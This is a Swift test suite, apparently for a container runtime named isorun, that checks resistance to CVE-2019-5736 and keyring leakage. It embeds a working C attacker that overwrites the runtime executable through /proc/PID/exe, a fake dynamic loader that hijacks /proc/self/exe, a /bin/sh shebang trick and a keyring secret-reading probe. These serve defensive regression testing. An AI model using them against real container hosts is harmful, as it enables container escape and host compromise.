// Chapter 04: what a hostile container may try against the runtime that made it.
// CVE-2019-5736 (a container overwrites the runtime's executable through /proc/PID/exe)
// in its three forms, and the caller's session keyring. Each attack runs for real, from
// inside a container, against a copy of the built isorun; the copy's hash is compared.
import Foundation
import Isolation
import SystemPackage
import Testing

/// The attacker: one static C program, copied into the container's root filesystem.
///
///     attack OUT SECONDS [sh]   scan /proc for a process running anything but busybox or
///                               this program (a runtime, between its fork and its
///                               execve); open its /proc/PID/exe (O_PATH) and write through
///                               it once nothing executes it. `sh`: first make /bin/sh a
///                               `#!/proc/self/exe` script.
///     hold OUT FD               write through descriptor FD (a fork keeps trying, so the
///                               caller can end)
///     interp FILE               print an ELF file's PT_INTERP (its dynamic loader)
///     keyring-host DESC DATA CMD…  in a new session keyring with key DESC=DATA, run CMD
///     keyring-look DESC         print the payload of key DESC in our session keyring
/// OUT gets one line per event: `denied PID`, `caught PID EXE`, `wrote`, `refused WHY`.
private let attackSource = #"""
#define _GNU_SOURCE
#include <dirent.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static FILE *out;
static void say(const char *line, const char *detail) {
    fprintf(out, "%s%s\n", line, detail); fflush(out);
}
static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }

/* Reopen FD for writing once no process executes the file (ETXTBSY until then). */
static int hold(int fd, double deadline) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    while (now() < deadline) {
        int w = open(path, O_WRONLY | O_APPEND);
        if (w < 0 && errno == ETXTBSY) { usleep(2000); continue; }
        if (w < 0) { say("refused open: ", strerror(errno)); return 1; }
        if (write(w, "ISOLATION-PWNED\n", 16) != 16) { say("refused write: ", strerror(errno)); return 1; }
        say("wrote", "");
        return 0;
    }
    say("timeout: still busy", "");
    return 1;
}

static int innocent(const char *exe) {
    size_t n = strlen(exe);
    return (n >= 8 && strcmp(exe + n - 8, "/busybox") == 0) || (n >= 7 && strcmp(exe + n - 7, "/attack") == 0);
}

static int attack(double seconds, int sh) {
    if (sh) {
        unlink("/bin/sh");
        int fd = open("/bin/sh", O_WRONLY | O_CREAT | O_TRUNC, 0755);
        if (fd < 0 || write(fd, "#!/proc/self/exe\n", 17) != 17) { say("setup failed: ", strerror(errno)); return 2; }
        close(fd);
    }
    say("ready", "");
    char denied[4096] = {0};
    double deadline = now() + seconds;
    while (now() < deadline) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            long pid = strtol(entry->d_name, NULL, 10);
            if (pid <= 0 || pid == getpid()) continue;
            char link[64], exe[4096];
            snprintf(link, sizeof link, "/proc/%ld/exe", pid);
            int fd = open(link, O_PATH | O_CLOEXEC);
            if (fd < 0) {
                if ((errno == EACCES || errno == EPERM) && pid < 4096 && !denied[pid]) { denied[pid] = 1; fprintf(out, "denied %ld\n", pid), fflush(out); }
                continue;
            }
            ssize_t n = readlink(link, exe, sizeof exe - 1);
            exe[n < 0 ? 0 : n] = 0;
            if (n <= 0 || innocent(exe)) { close(fd); continue; }
            fprintf(out, "caught %ld %s\n", pid, exe); fflush(out);
            closedir(proc);
            return hold(fd, deadline);
        }
        if (proc) closedir(proc);
    }
    say("nothing caught", "");
    return 1;
}

static int interp(const char *file) {
    FILE *f = fopen(file, "rb");
    Elf64_Ehdr header;
    if (!f || fread(&header, sizeof header, 1, f) != 1) return 1;
    for (int i = 0; i < header.e_phnum; i++) {
        Elf64_Phdr ph;
        fseek(f, header.e_phoff + i * header.e_phentsize, SEEK_SET);
        if (fread(&ph, sizeof ph, 1, f) != 1) return 1;
        if (ph.p_type != PT_INTERP) continue;
        char path[4096] = {0};
        fseek(f, ph.p_offset, SEEK_SET);
        if (ph.p_filesz >= sizeof path || fread(path, 1, ph.p_filesz, f) != ph.p_filesz) return 1;
        printf("%s\n", path);
    }
    return 0;
}

int main(int argc, char **argv) {
    out = stdout;
    if (argc >= 3 && (strcmp(argv[1], "attack") == 0 || strcmp(argv[1], "hold") == 0)) {
        out = fopen(argv[2], "a");
        if (!out) return 3;
    }
    if (argc >= 4 && strcmp(argv[1], "attack") == 0) {
        int result = attack(atof(argv[3]), argc >= 5 && strcmp(argv[4], "sh") == 0);
        sleep(5);  /* we are PID 1: our end would kill a `hold` still trying */
        return result;
    }
    if (argc == 4 && strcmp(argv[1], "hold") == 0) {
        /* We are the process the runtime started: the runtime waits for us. A fork keeps
           the descriptor; we end, and so does the runtime. */
        say("caught ", "self");
        if (fork() != 0) return 0;
        setsid();
        return hold(atoi(argv[3]), now() + 30);
    }
    if (argc == 3 && strcmp(argv[1], "interp") == 0) return interp(argv[2]);
    if (argc >= 5 && strcmp(argv[1], "keyring-host") == 0) {
        if (syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, "isolation-test-caller") < 0) { perror("join"); return 2; }
        if (syscall(SYS_add_key, "user", argv[2], argv[3], strlen(argv[3]), -3 /* KEY_SPEC_SESSION_KEYRING */) < 0) { perror("add_key"); return 2; }
        pid_t child = fork();
        if (child == 0) { execv(argv[4], argv + 4); perror("execv"); _exit(127); }
        int status = 0;
        waitpid(child, &status, 0);
        return WIFEXITED(status) ? WEXITSTATUS(status) : 128;
    }
    if (argc == 3 && strcmp(argv[1], "keyring-look") == 0) {
        long key = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -3, "user", argv[2], 0);
        if (key < 0) { printf("absent: %s\n", strerror(errno)); return 0; }
        char payload[256] = {0};
        long n = syscall(SYS_keyctl, 11 /* KEYCTL_READ */, key, payload, sizeof payload - 1);
        if (n < 0) { printf("unreadable: %s\n", strerror(errno)); return 0; }
        printf("found %s\n", payload);
        return 0;
    }
    fprintf(stderr, "usage: see the test\n");
    return 2;
}
"""#

/// A stand-in for the dynamic loader, as an attacker who controls the root filesystem may
/// put one at the path a dynamically linked runtime names (PT_INTERP): the kernel runs it
/// inside the process that is executing the runtime, so its /proc/self/exe is the runtime.
/// No libc (nothing is set up for one): three system calls.
private let loaderSource = #"""
#if defined(__x86_64__)
static long sys3(long n, long a, long b, long c) {
    long r; register long r10 __asm__("r10") = 0;
    __asm__ volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return r;
}
static long sys4(long n, long a, long b, long c, long d) {
    long r; register long r10 __asm__("r10") = d;
    __asm__ volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return r;
}
enum { NR_OPENAT = 257, NR_EXECVE = 59, NR_EXIT = 60 };
#define ENTRY __attribute__((force_align_arg_pointer))
#elif defined(__aarch64__)
static long sys4(long n, long a, long b, long c, long d) {
    register long x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c, x3 __asm__("x3") = d;
    __asm__ volatile ("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
}
static long sys3(long n, long a, long b, long c) { return sys4(n, a, b, c, 0); }
enum { NR_OPENAT = 56, NR_EXECVE = 221, NR_EXIT = 93 };
#define ENTRY
#endif

ENTRY void _start(void) {
    long fd = sys4(NR_OPENAT, -100, (long)"/proc/self/exe", 010000000 /* O_PATH */, 0);
    char number[4] = {0};
    if (fd < 0 || fd > 99) sys3(NR_EXIT, 126, 0, 0);
    if (fd >= 10) { number[0] = '0' + fd / 10; number[1] = '0' + fd % 10; } else number[0] = '0' + fd;
    const char *argv[5];
    argv[0] = "/attack"; argv[1] = "hold"; argv[2] = "/tmp/hold.out"; argv[3] = number; argv[4] = 0;
    sys3(NR_EXECVE, (long)"/attack", (long)argv, 0);
    sys3(NR_EXIT, 127, 0, 0);
}
"""#

private let compilerPath = ["/usr/bin/cc", "/usr/bin/gcc"].first { FileManager.default.isExecutableFile(atPath: $0) }
private let canAttack = canProbe && compilerPath != nil

/// A copy of the built isorun in a temporary folder, and containers it makes there.
private struct RuntimeUnderAttack {
    let folder: TemporaryFolder
    /// How the runtime copies itself: "mount" (its default where the kernel can) or "memfd".
    let copy: String
    var isorun: String { folder.path + "/isorun" }
    var stateRoot: String { folder.path + "/state" }
    var rootfs: String { folder.path + "/rootfs" }

    init(_ purpose: String, copy: String = "mount") throws {
        folder = try TemporaryFolder("attack-\(purpose)")
        self.copy = copy
        try FileManager.default.copyItem(atPath: product("isorun"), toPath: isorun)
        let fm = FileManager.default
        for dir in ["bin", "proc", "sys", "dev", "tmp", "etc"] {
            try fm.createDirectory(atPath: rootfs + "/" + dir, withIntermediateDirectories: true)
        }
        chmod(rootfs + "/tmp", 0o1777)
        try fm.copyItem(atPath: RootFilesystem.busyboxPath()!.string, toPath: rootfs + "/bin/busybox")
        for applet in busyboxApplets where applet != "busybox" { symlink("busybox", rootfs + "/bin/" + applet) }
        try compile(attackSource, to: rootfs + "/attack", flags: ["-static", "-O1"])
    }

    func compile(_ source: String, to output: String, flags: [String]) throws {
        let file = folder.path + "/" + (output as NSString).lastPathComponent + ".c"
        try source.write(toFile: file, atomically: false, encoding: .utf8)
        let result = try run(compilerPath!, flags + ["-o", output, file])
        try #require(result.status == 0, "cc \(file): \(result)")
    }

    /// Makes a bundle folder `name` whose config runs `args` in `rootfs`.
    func bundle(_ name: String, args: [String], edit: (inout OCIConfig) -> Void = { _ in }) throws -> String {
        let path = folder.path + "/" + name
        try FileManager.default.createDirectory(atPath: path, withIntermediateDirectories: true)
        var config = OCIConfig.defaultSpec(args: args, cgroupNamespace: CgroupMode.detect() == .unified)
        config.root = OCIConfig.Root(path: rootfs, readonly: false)
        config.process?.env = ["PATH=/bin"]
        edit(&config)
        try Data(config.encodedJSON()).write(to: URL(fileURLWithPath: path + "/config.json"))
        return path
    }

    /// Runs the copy (`--root` our state) with output to files: a created init inherits them.
    func runtime(_ arguments: [String], timeout: TimeInterval = 30) throws -> RunResult {
        try runWithOutputInFiles(isorun, ["--root", stateRoot] + arguments, in: folder.path,
                                 environment: copy == "memfd" ? ["ISOLATION_RUNTIME_COPY": "memfd"] : [:], timeout: timeout)
    }

    func sha256() throws -> String {
        try run("/usr/bin/sha256sum", [isorun]).stdout.split(separator: " ").first.map(String.init) ?? ""
    }

    /// The attacker's report in the root filesystem (`/tmp/NAME`).
    func report(_ name: String) -> String { (try? String(contentsOfFile: rootfs + "/tmp/" + name, encoding: .utf8)) ?? "" }

    /// Waits up to `seconds` until the report has a line starting with one of `words`.
    @discardableResult
    func await(_ name: String, _ words: [String], seconds: Double = 10) -> Bool {
        for _ in 0..<Int(seconds * 100) {
            if report(name).split(separator: "\n").contains(where: { line in words.contains { line.hasPrefix($0) } }) { return true }
            usleep(10_000)
        }
        return false
    }

    func pid(_ id: String) throws -> pid_t? {
        let state = try runtime(["state", id])
        let json = try JSONSerialization.jsonObject(with: Data(state.stdout.utf8)) as? [String: Any]
        return (json?["pid"] as? Int).map { pid_t($0) }
    }

    func removeAll() {
        for id in (try? FileManager.default.contentsOfDirectory(atPath: stateRoot)) ?? [] { _ = try? runtime(["delete", "--force", id]) }
        folder.remove()
    }
}

@Suite("Chapter 04: CVE-2019-5736, the container against the runtime's executable", .serialized,
       .enabled(if: canAttack, "needs root, busybox-static and a C compiler (cc -static) for the attacker"))
struct Chapter04BinaryAttackTests {
    /// Each attack against both kinds of copy the runtime makes of itself: a read-only
    /// mount (Linux 5.12+), and the sealed memfd it falls back to
    /// (`ISOLATION_RUNTIME_COPY=memfd` forces it).
    static let copies = ["mount", "memfd"]

    /// The attacker is the container's process; it watches for the process `exec` starts,
    /// which is the runtime between its fork and its execve.
    @Test(arguments: copies) func execProcessBeforeItsExecve(copy: String) throws {
        let lab = try RuntimeUnderAttack("exec", copy: copy)
        defer { lab.removeAll() }
        let before = try lab.sha256()
        let bundle = try lab.bundle("victim", args: ["/attack", "attack", "/tmp/attack.out", "60"])
        let created = try lab.runtime(["create", "--bundle", bundle, "victim"])
        try #require(created.status == 0, "\(created)")
        try #require(try lab.runtime(["start", "victim"]).status == 0)
        try #require(lab.await("attack.out", ["ready"]))
        var execs = 0
        for _ in 0..<30 where !lab.report("attack.out").contains("caught") {
            let exec = try lab.runtime(["exec", "victim", "/bin/true"])
            #expect(exec.status == 0, "\(exec)")
            execs += 1
        }
        // What the attacker got, if anything, it writes once the runtime has ended.
        if lab.report("attack.out").contains("caught") { lab.await("attack.out", ["wrote", "refused", "timeout"]) }
        #expect(try lab.sha256() == before, "after \(execs) execs the attacker reports:\n\(lab.report("attack.out"))")
        #expect(!lab.report("attack.out").contains("wrote"))
    }

    /// The container makes its /bin/sh `#!/proc/self/exe`: `exec … /bin/sh` then runs the
    /// runtime's own executable (whatever /proc/self/exe is at that execve) inside the
    /// container, as the container's process. A static runtime runs its own code there; a
    /// dynamic one first its loader, which the root filesystem provides: the attacker's.
    @Test(arguments: copies) func procSelfExeAsTheInterpreterOfBinSh(copy: String) throws {
        let lab = try RuntimeUnderAttack("shebang", copy: copy)
        defer { lab.removeAll() }
        let before = try lab.sha256()
        let loader = try run(lab.rootfs + "/attack", ["interp", lab.isorun]).stdout.trimmingCharacters(in: .whitespacesAndNewlines)
        if !loader.isEmpty {
            try FileManager.default.createDirectory(atPath: lab.rootfs + ((loader as NSString).deletingLastPathComponent), withIntermediateDirectories: true)
            try lab.compile(loaderSource, to: lab.rootfs + loader, flags: ["-static", "-nostdlib", "-fno-stack-protector", "-fno-pie", "-no-pie", "-O1"])
        }
        let bundle = try lab.bundle("victim", args: ["/attack", "attack", "/tmp/attack.out", "60", "sh"])
        try #require(try lab.runtime(["create", "--bundle", bundle, "victim"]).status == 0)
        try #require(try lab.runtime(["start", "victim"]).status == 0)
        try #require(lab.await("attack.out", ["ready"]))
        let exec = try lab.runtime(["exec", "victim", "/bin/sh"])
        // Either the attacker's loader ran as the runtime (hold.out), or the runtime's own
        // code did, watched by the scanning process (attack.out).
        let reached = lab.await("hold.out", ["wrote", "refused", "timeout"], seconds: 15) || lab.await("attack.out", ["wrote", "refused", "timeout"], seconds: 5)
        let reports = "exec: \(exec)\nattack.out:\n\(lab.report("attack.out"))hold.out:\n\(lab.report("hold.out"))"
        #expect(try lab.sha256() == before, "\(reports)")
        #expect(!(lab.report("attack.out") + lab.report("hold.out")).contains("wrote"), "\(reports)")
        #expect(reached, "the interpreter never ran (the attack did not take place): \(reports)")
        // It ran, and what it held was the copy, which refused the write.
        #expect((lab.report("attack.out") + lab.report("hold.out")).contains("refused"), "\(reports)")
    }

    /// A second container that joins the first one's PID namespace by path: its init, the
    /// runtime until `start`, is a process the first container can see.
    @Test(arguments: copies) func secondContainerInTheFirstOnesPIDNamespace(copy: String) throws {
        let lab = try RuntimeUnderAttack("joined", copy: copy)
        defer { lab.removeAll() }
        let before = try lab.sha256()
        let first = try lab.bundle("first", args: ["/attack", "attack", "/tmp/attack.out", "60"])
        try #require(try lab.runtime(["create", "--bundle", first, "first"]).status == 0)
        try #require(try lab.runtime(["start", "first"]).status == 0)
        try #require(lab.await("attack.out", ["ready"]))
        let firstPID = try #require(try lab.pid("first"))
        let second = try lab.bundle("second", args: ["/bin/true"]) { config in
            let namespaces = (config.linux?.namespaces ?? []).map { namespace in
                var namespace = namespace
                if namespace.type == .pid { namespace.path = "/proc/\(firstPID)/ns/pid" }
                return namespace
            }
            config.linux?.namespaces = namespaces
        }
        let created = try lab.runtime(["create", "--bundle", second, "second"])
        try #require(created.status == 0, "\(created)")
        let secondPID = try #require(try lab.pid("second"))
        // The attacker sees the waiting init: it either opens its executable or is refused.
        let seen = lab.await("attack.out", ["caught", "denied"], seconds: 10)
        try #require(try lab.runtime(["start", "second"]).status == 0)
        if lab.report("attack.out").contains("caught") { lab.await("attack.out", ["wrote", "refused", "timeout"]) }
        let report = lab.report("attack.out")
        #expect(try lab.sha256() == before, "the second init was \(secondPID); the attacker reports:\n\(report)")
        #expect(!report.contains("wrote"))
        #expect(seen, "the first container never saw the second one's init: \(report)")
    }
}

@Suite("Chapter 04: the caller's session keyring stays outside", .serialized,
       .enabled(if: canAttack, "needs root, busybox-static and a C compiler (cc -static) for the probe"))
struct Chapter04KeyringTests {
    /// The caller holds a secret key in its session keyring; the container looks for it.
    func look(_ extra: [String]) throws -> String {
        let lab = try RuntimeUnderAttack("keyring")
        defer { lab.removeAll() }
        let bundle = try lab.bundle("keys", args: ["/attack", "keyring-look", "isolation-secret"])
        let result = try run(lab.rootfs + "/attack", ["keyring-host", "isolation-secret", "s3cret", lab.isorun, "--root", lab.stateRoot, "run"] + extra + ["--bundle", bundle, "keys"])
        #expect(result.status == 0, "\(result)")
        return result.stdout.trimmingCharacters(in: .whitespacesAndNewlines)
    }

    @Test func newSessionKeyringPerContainer() throws {
        let seen = try look([])
        #expect(seen.hasPrefix("absent"), "inside the container: \(seen)")
    }

    @Test func noNewKeyringKeepsTheCallers() throws {
        // The probe itself works: with --no-new-keyring, as with runc, the key is there.
        #expect(try look(["--no-new-keyring"]) == "found s3cret")
    }
}

@Suite("Chapter 04: one ID under two --roots", .serialized, .enabled(if: isRoot, "creates containers and cgroups"))
struct Chapter04SharedCgroupTests {
    /// Both would be in the default cgroup, isolation/ID: the second is refused, and its
    /// `delete --force` leaves the first one's waiting init alone (it used to kill it,
    /// and the first one's `start` then found it "stopped, not created").
    @Test func secondCreateIsRefusedAndTheFirstLives() throws {
        let first = try TestBundle("same-id-1")
        let second = try TestBundle("same-id-2")
        defer { first.removeAll(); second.removeAll() }
        let id = "isolation-same-\(getpid())"
        let created = try first.runtime(["create", "--bundle", first.path, id])
        try #require(created.status == 0, "\(created)")
        let pid = try #require(try first.pid(id))
        let again = try second.runtime(["create", "--bundle", second.path, id])
        #expect(again.status != 0, "\(again)")
        #expect(again.stderr.contains("is in use"), "\(again)")
        _ = try second.runtime(["delete", "--force", id])
        usleep(100_000)
        #expect(kill(pid, 0) == 0, "the first container's init \(pid) is gone")
        let state = try first.runtime(["state", id])
        #expect(state.stdout.contains("\"created\""), "\(state)")
        let started = try first.runtime(["start", id])
        #expect(started.status == 0, "\(started)")
    }
}
